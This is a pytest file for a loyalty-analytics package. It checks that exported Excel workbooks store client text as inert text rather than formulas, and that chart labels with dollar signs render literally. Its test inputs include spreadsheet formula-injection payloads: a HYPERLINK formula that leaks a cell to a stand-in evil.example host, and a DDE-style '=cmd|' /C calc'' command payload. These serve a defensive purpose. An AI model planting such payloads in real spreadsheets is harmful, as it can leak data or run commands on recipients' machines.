"""Files a consultant can send: no formulas from client text, client text drawn as text,
atomic and owned output folders."""

from __future__ import annotations

import io

import openpyxl
import polars as pl
import pytest

from loyaltylab.report import Report, export_tables

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "@SUM(A1)",
           "-2+3", "\tcmd", "\r=1", "http://evil.example", "plain", "-12.50"]


# ------------------------------------------------------------------ formula injection
def _cells(path, sheet):
    ws = openpyxl.load_workbook(path)[sheet]
    return [[(c.value, c.data_type, c.hyperlink) for c in row] for row in ws.iter_rows()]


def test_client_text_in_the_workbook_is_never_a_formula_or_a_link(tmp_path):
    path = tmp_path / "tables.xlsx"
    frame = pl.DataFrame({"campaign": HOSTILE, "orders": list(range(len(HOSTILE))),
                          "tier": pl.Series(HOSTILE, dtype=pl.Categorical)})
    export_tables({"Campaigns": frame}, path, notes={"Campaigns": "=1+1 a note"})
    rows = _cells(path, "Campaigns")
    assert [v for v, _, _ in rows[0]] == ["campaign", "orders", "tier"]
    for col in (0, 2):
        values = [r[col] for r in rows[1:]]
        assert all(kind == "s" and link is None for _, kind, link in values), values
        # xlsx stores a carriage return as _x000D_ (Excel shows it as one)
        assert [v.replace("_x000D_", "\r") for v, _, _ in values] == [
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+1", "'@SUM(A1)",
            "'-2+3", "'\tcmd", "'\r=1", "http://evil.example", "plain", "-12.50"]
    assert [r[1][0] for r in rows[1:]] == list(range(len(HOSTILE)))  # numbers stay numbers
    about = _cells(path, "About")
    assert about[1][2][:2] == ("'=1+1 a note", "s")


def test_a_hostile_column_name_is_neutralised_too(tmp_path):
    path = tmp_path / "t.xlsx"
    export_tables({"t": pl.DataFrame({"=cmd|' /C calc'!A0": ["x"]})}, path)
    header = _cells(path, "t")[0][0]
    assert header[0] == "'=cmd|' /C calc'!A0" and header[1] == "s"


def test_report_workbook_and_data_quality_sheet_are_text(tmp_path):
    rep = Report("Demo")
    rep.add_table(pl.DataFrame({"segment": HOSTILE[:3], "buyers": [1, 2, 3]}),
                  title="=Segments")
    path = rep.write_excel(tmp_path / "tables.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb[wb.sheetnames[1]]
    assert [c.value for c in ws["A"]][1:] == ["'" + v for v in HOSTILE[:3]]
    assert all(c.data_type == "s" for c in ws["A"])


# ------------------------------------------------------------------ client text in charts
TIERS = ["$", "$$", "$$$", "50%_off", "a_b^c", "$5 off $10"]


def _drawn_texts(fig) -> list[str]:
    """Every text of the figure as drawn (SVG with text kept as text)."""
    import xml.etree.ElementTree as ET

    import matplotlib as mpl

    buf = io.BytesIO()
    with mpl.rc_context({"svg.fonttype": "none"}):
        fig.savefig(buf, format="svg")
    fig.savefig(io.BytesIO(), format="png")
    fig.savefig(io.BytesIO(), format="pdf")
    root = ET.fromstring(buf.getvalue())
    return ["".join(el.itertext()) for el in root.iter("{http://www.w3.org/2000/svg}text")]


@pytest.fixture(scope="module")
def tiered():
    import loyaltylab as ll

    data = ll.datasets.load_sample()
    customers = data.customers.with_columns(
        pl.Series("segment", [TIERS[i % len(TIERS)] for i in range(data.customers.height)]))
    return data.replace(customers=customers)


def test_price_tiers_and_odd_names_are_drawn_as_they_read(tiered):
    import matplotlib.pyplot as plt

    import loyaltylab as ll
    from loyaltylab.data.overview import customer_mix

    axes = [
        ll.plots.plot_customer_mix(customer_mix(tiered, by="segment")),  # categorical bars
        ll.plots.plot_nps(ll.survey.nps(tiered, by="segment")),  # fixed tick labels
        ll.plots.plot_retention(ll.churn.KaplanMeier().fit(
            ll.churn.churn_table(tiered, inactivity="180d"), by="segment")),  # legend, text
    ]
    for ax in axes:
        drawn = _drawn_texts(ax.figure)
        for tier in TIERS:
            assert any(t == tier or t.startswith(tier + " ") or t.startswith(tier + "s")
                       for t in drawn), (tier, drawn)
        plt.close(ax.figure)


def test_a_title_with_dollars_is_drawn_as_given():
    import matplotlib.pyplot as plt

    import loyaltylab as ll
    from loyaltylab.data.overview import customer_mix

    mix = pl.DataFrame({"tier": ["$", "$$"], "customers": [3, 4], "buyers": [1, 2]})
    ax = ll.plots.plot_customer_mix(mix, title="Tiers $ and $$ compared")
    assert "Tiers $ and $$ compared" in _drawn_texts(ax.figure)
    assert customer_mix  # imported for the signature only
    plt.close(ax.figure)
